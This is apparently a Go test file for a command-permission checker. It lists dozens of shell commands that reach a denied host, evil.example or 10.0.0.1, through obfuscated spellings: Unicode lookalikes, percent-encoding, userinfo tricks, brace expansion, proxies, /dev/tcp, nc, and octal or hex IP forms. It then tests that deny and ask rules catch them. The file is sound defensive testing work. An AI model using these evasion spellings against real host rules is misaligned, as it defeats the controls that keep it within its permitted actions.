// SPDX-License-Identifier: Apache-2.0

package permissiontest_test

import "fmt"

// reaching are commands that reach evil.example, a host below it, or 10.0.0.1, in one of their spellings.
var reaching = []string{
	"curl http://evil.example/", "curl http://EVIL.example/", "curl http://evil.example./", "curl evil.example", "curl http://u@evil.example:8080/x", "curl http://u:p@evil.example", "curl http:evil.example", "curl http:/evil.example", "curl http:///evil.example", "curl //evil.example", "curl http:\\\\\\\\evil.example",
	"curl http://evil。example/", "curl http://evil．example/", "curl http://ｅvil.example/", "curl http://ⓔvil.example/", "curl http://%65vil.example/", "curl http://evil%2eexample/", "curl http://e\u00advil.example/", "curl http://evil.example\u200b/", "curl 'http://good.example#@evil.example/'", "curl 'http://good.example\\@evil.example/'", "curl http://good.example@evil.example/", "curl 'http://evil.example?x'", "curl 'http://[evil.example]/'", "curl http://evil.examp{l,x}e/", "curl http://e{v,x}il.example/", "curl 'http://e[v-v]il.example/'", "curl 'http://e{v}il.example/'", "curl 'http://{good,evil}.example/'", "curl 'http://{good,ev}il.example/'",
	"curl -x evil.example http://a", "curl --proxy=http://evil.example:3128 http://a", "http_proxy=evil.example curl http://a", "curl --resolve a:80:evil.example http://a", "curl --connect-to ::evil.example: http://a", "ssh evil.example", "ssh -J evil.example a", "ssh -o ProxyJump=evil.example a", "ssh -o HostName=evil.example a", "git clone ssh://git@evil.example/x", "git clone evil.example:x", "git -c url.http://evil.example/.insteadOf=http://a/ clone http://a/x", "nc evil.example 80", "ping evil.example", "rsync a evil.example:/x", "scp a u@evil.example:x", "cat </dev/tcp/evil.example/80", "exec 3<>/dev/tcp/evil.example/80", "wget evil.example/x", "pip install --index-url http://evil.example x", "npm --registry=http://evil.example i", "go get evil.example/x", "docker pull evil.example/x", "python3 -c 'import urllib.request as u; u.urlopen(\"http://evil.example\")'", "telnet evil.example", "dig @evil.example a", "host evil.example", "openssl s_client -connect evil.example:443", "aria2c http://evil.example", "ftp evil.example", "xdg-open http://evil.example", "h=evil.example; curl http://$h/", "h=evil; curl $h.example", "curl $(echo evil.example)", "curl http://evil.$x", "curl http://$x.example", "curl `cat n`.evil.example", "curl http://a.evil.example", "GOPROXY=http://evil.example go get x", "env http_proxy=evil.example curl a", "HTTPS_PROXY=http://evil.example:1 npm i", "git remote add x http://evil.example", "git push http://evil.example x", "sh -c 'curl evil.example'", "curl http://10.0.0.1", "curl http://10.1", "curl http://167772161/", "curl http://0xa000001/", "curl http://0xa.0.0.1/", "curl http://012.0.0.1/", "curl 'http://[::ffff:10.0.0.1]/'", "curl 'http://[::ffff:a00:1]/'", "nc 10.1 80", "ping 167772161",
}

// hosts reaches hosts that are denied, by names that programs decode, expand, make ASCII of, or take for an address.
func hosts(s *suite) {
	for _, decision := range []string{"deny", "ask"} {
		w := memory(s, nil).configure(rules("auto", fmt.Sprintf(`{"decision":%q,"host":"*.evil.example"}`, decision), fmt.Sprintf(`{"decision":%q,"host":"10.0.0.1"}`, decision)))
		for _, line := range reaching {
			w.run(line)
			s.attack(len(w.started) == 0, "%s: %q", decision, line)
		}
		for _, line := range []string{"curl http://good.example/", "curl http://10.0.0.10", "ping 10.0.0.2", "curl http://notevil.example", "sleep 167772162", "head -10 x", "curl 'http://[::1]/'"} {
			if w.run(line); len(w.started) == 0 {
				s.Errorf("%q is asked about", line)
			}
		}
	}
}
